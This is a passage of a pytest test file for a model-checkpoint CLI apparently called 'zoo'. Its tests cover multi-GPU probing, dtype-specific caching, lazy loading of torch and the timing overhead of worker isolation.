    zoo: Zoo, checkpoints: dict[str, Path], probe_file: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr("zookeeper.hardware.several", lambda n: ("cpu",) * (n or 0))
    matrices = []
    for gpus in ((), ("--gpus", "2")):
        monkeypatch.setenv("ZOO_CACHE", str(tmp_path / f"cache{len(gpus)}"))
        zoo("add", *checkpoints.values())
        done = zoo("probe", "-p", probe_file, *gpus)
        assert [row["STATUS"] for row in done.table] == ["done"] * 5, done.stderr
        matrices.append(zoo("covariance", "--json").json["matrix"])
    assert matrices[0] == matrices[1]


def test_more_gpus_than_there_are_is_a_usage_error(zoo: Zoo, checkpoints: dict[str, Path]) -> None:
    zoo("add", checkpoints["bert"])
    for command in (("probe",), ("rank", "-t", "conll2000")):
        done = zoo(*command, "--gpus", "999")
        assert done.exit_code == 2
        assert "999 GPUs were asked for; there is" in done.stderr


def test_the_precision_that_is_asked_for_is_part_of_the_name(
    zoo: Zoo, checkpoints: dict[str, Path], probe_file: Path
) -> None:
    zoo("add", checkpoints["bert"], checkpoints["gpt2"])
    probe = ("probe", "-p", probe_file)
    assert [row["STATUS"] for row in zoo(*probe).table] == ["done"] * 2
    assert [row["STATUS"] for row in zoo(*probe, "--dtype", "float32").table] == ["already there"] * 2
    assert [row["STATUS"] for row in zoo(*probe, "--dtype", "bfloat16").table] == ["done"] * 2
    rough, exact = (
        zoo("covariance", "-p", probe_file, "--dtype", dtype, "--json").json["matrix"][0][1]
        for dtype in ("bfloat16", "float32")
    )
    assert 0 < abs(rough - exact) < 0.05
    unread = zoo("covariance", "-p", probe_file, "--layer", "0", "--dtype", "bfloat16")
    assert "--layer 0 --pool last --dtype bfloat16" in unread.stderr


WITHOUT_TORCH = """
import sys
from typer.testing import CliRunner
from zookeeper.cli import app
probe, target, *folders = sys.argv[1:]
for command in (["add", *folders], ["probe", "-p", probe], ["rank", "-t", target],
                ["select", "-t", target, "-k", "1"], ["covariance"]):
    done = CliRunner().invoke(app, command)
    assert done.exit_code == 0, (command, done.stderr)
print("torch" in sys.modules)
"""


def test_who_asks_loads_no_torch(
    checkpoints: dict[str, Path], probe_file: Path, target_folder: Path, tmp_path: Path
) -> None:
    arguments = [probe_file, target_folder, checkpoints["bert"], checkpoints["gpt2"]]
    environment = os.environ | {"ZOO_HOME": str(tmp_path), "ZOO_CACHE": str(tmp_path / "cache")}
    command = [sys.executable, "-c", WITHOUT_TORCH, *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, env=environment)
    assert done.stdout.strip() == "False", done.stderr


@pytest.mark.nightly
def test_isolation_costs_a_tenth_of_a_second_at_most(checkpoints: dict[str, Path]) -> None:
    corpus = corpus_of("word", TEXT)

    def seconds(read: Callable[..., Iterator[Block]], **how: Any) -> float:
        times = []
        for _ in range(25):
            began = time.perf_counter()
            assembled(read(checkpoints["bert"], corpus, Reading(), **how), corpus.n_rows)
            times.append(time.perf_counter() - began)
        return min(times[1:])

    assert seconds(worker.read, family="bert") - seconds(extract.read) <= 0.1
